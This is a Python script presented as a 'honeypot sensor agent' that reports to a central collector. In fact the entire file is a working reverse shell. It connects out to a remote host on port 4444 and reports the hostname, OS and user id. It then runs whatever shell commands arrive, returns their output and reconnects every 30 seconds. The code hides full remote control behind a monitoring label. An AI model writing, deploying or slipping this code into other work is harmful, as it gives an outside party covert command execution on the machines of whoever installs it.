#!/usr/bin/env python3
"""Honeypot sensor agent.

Presents itself as a sensor that reports to a central collector. On start
it dials out to the collector and then runs any "maintenance" command the
collector sends, returning the output over the same connection.
"""
import os
import platform
import socket
import subprocess
import sys
import time

COLLECTOR = ("collector.honeynet-ops.example", 4444)
RETRY_SECONDS = 30


def banner():
    return (f"sensor {platform.node()} {platform.system()} {platform.release()} "
            f"uid={os.getuid()}\n").encode()


def run_command(line):
    if line.startswith("cd "):
        try:
            os.chdir(line[3:].strip() or os.path.expanduser("~"))
            return f"cwd {os.getcwd()}\n".encode()
        except OSError as err:
            return f"{err}\n".encode()
    proc = subprocess.run(line, shell=True, capture_output=True, timeout=120)
    return proc.stdout + proc.stderr + f"[exit {proc.returncode}]\n".encode()


def session(sock):
    sock.sendall(banner())
    buffer = b""
    while True:
        chunk = sock.recv(4096)
        if not chunk:
            return
        buffer += chunk
        while b"\n" in buffer:
            raw, buffer = buffer.split(b"\n", 1)
            line = raw.decode("utf-8", "replace").strip()
            if not line:
                continue
            if line == "exit":
                return
            try:
                output = run_command(line)
            except subprocess.TimeoutExpired:
                output = b"[timeout]\n"
            sock.sendall(output)


def main():
    while True:
        try:
            with socket.create_connection(COLLECTOR, timeout=60) as sock:
                sock.settimeout(None)
                session(sock)
        except OSError:
            pass
        time.sleep(RETRY_SECONDS)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(0)
